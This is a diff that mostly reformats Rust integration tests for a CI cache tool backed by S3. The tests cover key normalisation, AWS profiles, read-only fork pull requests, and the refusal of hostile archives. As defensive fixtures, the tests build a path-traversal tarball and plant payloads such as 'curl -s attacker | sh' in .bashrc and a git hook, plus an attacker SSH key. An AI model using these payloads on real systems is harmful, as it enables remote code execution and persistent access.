@@ -6,7 +6,7 @@ use std::fs;
 use std::path::{Path, PathBuf};
 use std::process::Command;
 
-use s3cache_tests::{Run, S3Server, Machine, ServerKind, binary, boto3, snapshot};
+use s3cache_tests::{Machine, Run, S3Server, ServerKind, binary, boto3, snapshot};
 
 const PROJECT: &str = "9f1c6a2e-6c0b-4c3f-9b7e-2d1d6c5e8a10";
 
@@ -98,10 +98,11 @@ fn every_verb_through_a_pipeline() {
     let builder = job(&server, "main");
     write(&builder.workspace(), "vendor/bundle/gems/rake.rb", "rake");
     write(&builder.workspace(), "vendor/bundle/bin/rake", "#!/bin/sh\n");
-    expect(&cache(&builder, &["store", "gems-main/2026", "vendor/bundle"]), 0, &[
-        "Key 'gems-main/2026' is normalized to 'gems-main-2026'.",
-        "Uploading 'vendor/bundle' with cache key 'gems-main-2026'...",
-    ]);
+    expect(
+        &cache(&builder, &["store", "gems-main/2026", "vendor/bundle"]),
+        0,
+        &["Key 'gems-main/2026' is normalized to 'gems-main-2026'.", "Uploading 'vendor/bundle' with cache key 'gems-main-2026'..."],
+    );
     assert_eq!(objects(&server), vec![format!("{PROJECT}/gems-main-2026")]);
     expect(&cache(&builder, &["store", "gems-main-2026", "vendor/bundle"]), 0, &["Key 'gems-main-2026' already exists."]);
     expect(&cache(&builder, &["has_key", "gems-main-2026"]), 0, &["Key 'gems-main-2026' exists in the cache store."]);
@@ -119,7 +120,11 @@ fn every_verb_through_a_pipeline() {
     let list = cache(&next, &["list"]);
     expect(&list, 0, &[]);
     let lines: Vec<&str> = list.stdout.lines().collect();
-    assert!(lines[0].starts_with("NAME") && lines[0].contains("SIZE") && lines[0].contains("STORED AT") && lines[0].contains("ACCESSED AT"), "{}", list.stdout);
+    assert!(
+        lines[0].starts_with("NAME") && lines[0].contains("SIZE") && lines[0].contains("STORED AT") && lines[0].contains("ACCESSED AT"),
+        "{}",
+        list.stdout
+    );
     assert!(lines[1].starts_with("gems-main-2026 "), "{}", list.stdout);
     let usage = cache(&next, &["usage"]);
     expect(&usage, 0, &["FREE SPACE: (unlimited)"]);
@@ -183,7 +188,11 @@ fn profile_from_the_aws_files() {
     let aws = machine.home().join(".aws");
     fs::create_dir_all(&aws).unwrap();
     fs::write(aws.join("config"), "[default]\nregion = us-east-1\noutput = json\n").unwrap();
-    fs::write(aws.join("credentials"), format!("[semaphore]\naws_access_key_id = {}\naws_secret_access_key = {}\n", server.access_key, server.secret_key)).unwrap();
+    fs::write(
+        aws.join("credentials"),
+        format!("[semaphore]\naws_access_key_id = {}\naws_secret_access_key = {}\n", server.access_key, server.secret_key),
+    )
+    .unwrap();
     write(&machine.workspace(), "deps/x", "x");
     expect(&cache(&machine, &["store", "deps", "deps"]), 0, &["Uploading 'deps' with cache key 'deps'..."]);
     expect(&cache(&machine, &["has_key", "deps"]), 0, &["Key 'deps' exists in the cache store."]);
@@ -191,7 +200,11 @@ fn profile_from_the_aws_files() {
 
     // Semaphore's manual setup: the `[default]` profile, and no SEMAPHORE_CACHE_AWS_PROFILE.
     machine.unset("SEMAPHORE_CACHE_AWS_PROFILE");
-    fs::write(aws.join("credentials"), format!("[default]\naws_access_key_id = {}\naws_secret_access_key = {}\n", server.access_key, server.secret_key)).unwrap();
+    fs::write(
+        aws.join("credentials"),
+        format!("[default]\naws_access_key_id = {}\naws_secret_access_key = {}\n", server.access_key, server.secret_key),
+    )
+    .unwrap();
     expect(&cache(&machine, &["has_key", "deps"]), 0, &["Key 'deps' exists in the cache store."]);
     fs::write(aws.join("credentials"), "[default]\naws_access_key_id = wrong\naws_secret_access_key = wrong-secret\n").unwrap();
     let denied = cache(&machine, &["has_key", "deps"]);
@@ -234,7 +247,10 @@ fn fork_pull_requests_are_read_only() {
     write(&main.workspace(), "deps/x", "from main");
     cache(&main, &["store", "deps-main", "deps"]);
     let mut fork = job(&server, "main");
-    fork.env("SEMAPHORE_GIT_REF_TYPE", "pull-request").env("SEMAPHORE_GIT_PR_BRANCH", "patch-1").env("SEMAPHORE_GIT_PR_SLUG", "mallory/shop").env("SEMAPHORE_GIT_PR_NUMBER", "7");
+    fork.env("SEMAPHORE_GIT_REF_TYPE", "pull-request")
+        .env("SEMAPHORE_GIT_PR_BRANCH", "patch-1")
+        .env("SEMAPHORE_GIT_PR_SLUG", "mallory/shop")
+        .env("SEMAPHORE_GIT_PR_NUMBER", "7");
     expect(&cache(&fork, &["restore", "deps-main"]), 0, &["HIT: 'deps-main', using key 'deps-main'."]);
     assert_eq!(fs::read_to_string(fork.workspace().join("deps/x")).unwrap(), "from main");
     write(&fork.workspace(), "deps/x", "poisoned");
@@ -289,7 +305,13 @@ fn restores_what_the_real_cli_wrote() {
     let evil = machine.scratch("evil");
     write(&evil, "inner/x", "x");
     let hostile = machine.scratch("uploads").join("evil.tgz");
-    let status = Command::new("tar").args(["czf"]).arg(&hostile).args(["--transform", "s,^inner,../escaped,", "inner"]).current_dir(&evil).status().unwrap();
+    let status = Command::new("tar")
+        .args(["czf"])
+        .arg(&hostile)
+        .args(["--transform", "s,^inner,../escaped,", "inner"])
+        .current_dir(&evil)
+        .status()
+        .unwrap();
     assert!(status.success());
     put_real_cli_object(&server, "evil", &hostile);
     let run = cache(&machine, &["restore", "evil"]);
@@ -333,7 +355,12 @@ fn path_less_restores_refuse_planting() {
     let mut machine = job(&server, "main");
     let (home, workspace) = (machine.home(), machine.workspace());
     let uploads = machine.scratch("uploads");
-    let planted = [(".bashrc", "curl -s attacker | sh"), (".ssh/authorized_keys", "ssh-ed25519 AAAA attacker"), (".aws/credentials", "[default]\naws_access_key_id = x"), (".local/bin/x", "#!/bin/sh\n")];
+    let planted = [
+        (".bashrc", "curl -s attacker | sh"),
+        (".ssh/authorized_keys", "ssh-ed25519 AAAA attacker"),
+        (".aws/credentials", "[default]\naws_access_key_id = x"),
+        (".local/bin/x", "#!/bin/sh\n"),
+    ];
     let gnu_tar = |dir: &Path, flags: &str, archive: &Path, member: &str| {
         let status = Command::new("tar").arg(flags).arg(archive).arg(member).current_dir(dir).status().unwrap();
         assert!(status.success(), "tar {flags} {member}");
@@ -350,14 +377,26 @@ fn path_less_restores_refuse_planting() {
         let key = format!("entry-{}", name.replace(['/', '.'], ""));
         let run = cache(&machine, &["store", &key, &home.join(name).display().to_string()]);
         expect(&run, 0, &[&format!("Uploading '{}' with cache key '{key}'...", home.join(name).display())]);
-        assert!(run.stdout.lines().any(|l| l.starts_with("warning: a restore without paths refuses ") && l.ends_with("this entry restores only with its paths given (--path, mount)")), "{}", run.stdout);
-        let member_or_root = if name == ".bashrc" { "~/.bashrc: it is not a directory".to_string() } else { format!("the recorded path ~/{name}: it lies in ~/{}", name.split('/').next().unwrap()) };
+        assert!(
+            run.stdout.lines().any(|l| l.starts_with("warning: a restore without paths refuses ")
+                && l.ends_with("this entry restores only with its paths given (--path, mount)")),
+            "{}",
+            run.stdout
+        );
+        let member_or_root = if name == ".bashrc" {
+            "~/.bashrc: it is not a directory".to_string()
+        } else {
+            format!("the recorded path ~/{name}: it lies in ~/{}", name.split('/').next().unwrap())
+        };
         cases.push((key, format!("a restore without paths refuses {member_or_root}")));
     }
     write(&workspace, ".git/hooks/pre-commit", "#!/bin/sh\ncurl -s attacker | sh\n");
     gnu_tar(&workspace, "czf", &uploads.join("hook.tgz"), ".git/hooks/pre-commit");
     put_real_cli_object(&server, "legacy-hook", &uploads.join("hook.tgz"));
-    cases.push(("legacy-hook".into(), "a restore without paths refuses .git/hooks/pre-commit: it lies in .git, which holds git's hooks and configuration".into()));
+    cases.push((
+        "legacy-hook".into(),
+        "a restore without paths refuses .git/hooks/pre-commit: it lies in .git, which holds git's hooks and configuration".into(),
+    ));
     expect(&cache(&machine, &["store", "entry-hook", ".git/hooks/pre-commit"]), 0, &[]);
     cases.push(("entry-hook".into(), "a restore without paths refuses the recorded path .git/hooks/pre-commit: it lies in .git".into()));
     // Everything in the home directory, by absolute names (the directory's own member is refused anyway).
@@ -366,15 +405,23 @@ fn path_less_restores_refuse_planting() {
     let status = Command::new("tar").arg("czPf").arg(uploads.join("home.tgz")).args(&everything).status().unwrap();
     assert!(status.success(), "tar czPf of {everything:?}");
     put_real_cli_object(&server, "legacy-home", &uploads.join("home.tgz"));
-    cases.push(("legacy-home".into(), "a restore without paths refuses ~/.aws/credentials: it lies in ~/.aws, which holds credentials".into()));
+    cases.push((
+        "legacy-home".into(),
+        "a restore without paths refuses ~/.aws/credentials: it lies in ~/.aws, which holds credentials".into(),
+    ));
     expect(&cache(&machine, &["store", "entry-home", &home.display().to_string()]), 0, &[]);
-    cases.push(("entry-home".into(), "a restore without paths refuses the recorded path ~: it is the home directory; give the paths to restore it (--path, mount)".into()));
+    cases.push((
+        "entry-home".into(),
+        "a restore without paths refuses the recorded path ~: it is the home directory; give the paths to restore it (--path, mount)"
+            .into(),
+    ));
 
     let before = machine.own_dotfiles();
     for (key, refusal) in &cases {
         let run = cache(&machine, &["restore", key]);
         expect(&run, 0, &[]);
-        let error = run.stdout.lines().find(|l| l.starts_with("error: ")).unwrap_or_else(|| panic!("{key}: no error line in:\n{}", run.stdout));
+        let error =
+            run.stdout.lines().find(|l| l.starts_with("error: ")).unwrap_or_else(|| panic!("{key}: no error line in:\n{}", run.stdout));
         assert!(error.contains(refusal.as_str()), "{key}: {error:?} does not say {refusal:?}");
         assert!(!run.stdout.contains("HIT:"), "{}", run.stdout);
         assert_eq!(machine.dotfiles(), before, "{key} changed the home directory or the workspace");
@@ -392,7 +439,12 @@ fn path_less_restores_refuse_planting() {
     fs::remove_dir_all(workspace.join("vendor")).unwrap();
     let run = cache(&machine, &["restore", "entry-home,gems-good"]);
     expect(&run, 0, &["HIT: 'gems-good', using key 'gems-good'."]);
-    assert!(run.stdout.lines().any(|l| l.starts_with("passing over cache entry ") && l.contains("entry-home: a restore without paths refuses the recorded path ~: it is the home directory")), "{}", run.stdout);
+    assert!(
+        run.stdout.lines().any(|l| l.starts_with("passing over cache entry ")
+            && l.contains("entry-home: a restore without paths refuses the recorded path ~: it is the home directory")),
+        "{}",
+        run.stdout
+    );
     assert_eq!(fs::read_to_string(workspace.join("vendor/bundle/gems/rake.rb")).unwrap(), "rake");
     assert_eq!(snapshot(&home), before.0);
 }
